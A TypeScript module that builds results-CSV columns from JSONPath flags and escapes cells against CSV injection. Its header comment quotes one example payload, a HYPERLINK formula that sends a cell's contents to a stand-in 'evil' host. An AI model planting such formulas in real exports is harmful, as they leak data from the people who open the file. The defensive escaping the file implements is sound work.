// What goes in a cell of a results CSV: `--column NAME=JSONPATH` flags read from the answer through
// the one JSONPath module (RFC 9535, match() and search() refused: requests/jsonPath.ts), and every
// cell made safe for a spreadsheet. Answers come from the service and rows from whoever wrote the data
// file: a cell such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(…)` would run as a formula when the
// file is opened in Excel, LibreOffice or Google Sheets (CSV injection, OWASP). A cell that starts
// with = + - @, a tab or a carriage return is written with a leading ' , which spreadsheets show as
// text; the text after it is unchanged (so -5 reads '-5).
import { jsonPath, jsonPathProblem } from '../requests/jsonPath';
import { safeLine } from '../sanitize';

/** One `--column NAME=JSONPATH`: a column of the results CSV holding what the path selects in the answer. */
export interface ResultColumn {
  readonly name: string;
  readonly path: string;
}

export type ParsedColumns = { readonly ok: true; readonly columns: readonly ResultColumn[] } | { readonly ok: false; readonly message: string };

const EXAMPLE = '--column duns=$.MatchResponse.MatchResponseDetail.MatchCandidate[0].DUNSNumber';

/** The `--column` flags' values, each checked before anything is sent; the first bad one refused, naming the flag. */
export function parseColumnFlags(flags: readonly string[]): ParsedColumns {
  const columns: ResultColumn[] = [];
  for (const flag of flags) {
    const eq = flag.indexOf('=');
    const name = eq < 0 ? '' : flag.slice(0, eq).trim();
    const path = eq < 0 ? '' : flag.slice(eq + 1).trim();
    const shown = `--column ${safeLine(flag)}`;
    if (name === '' || path === '') return { ok: false, message: `${shown}: write it as NAME=JSONPATH, as ${EXAMPLE}.` };
    if (columns.some((c) => c.name === name)) return { ok: false, message: `${shown}: two --column flags name the column "${safeLine(name)}"; give each its own name.` };
    const problem = jsonPathProblem(path);
    if (problem !== undefined) return { ok: false, message: `${shown}: ${problem}` };
    columns.push({ name, path });
  }
  return { ok: true, columns };
}

/** What a column's path selects in an answer, as cell text: empty when it selects nothing, a string as it is, anything else as JSON. */
export function columnCell(answer: unknown, column: ResultColumn): string {
  const value = jsonPath(answer, column.path);
  return value === undefined ? '' : typeof value === 'string' ? value : JSON.stringify(value);
}

/** A cell a spreadsheet shows as text, never runs as a formula. */
export function spreadsheetSafe(cell: string): string {
  return /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell;
}
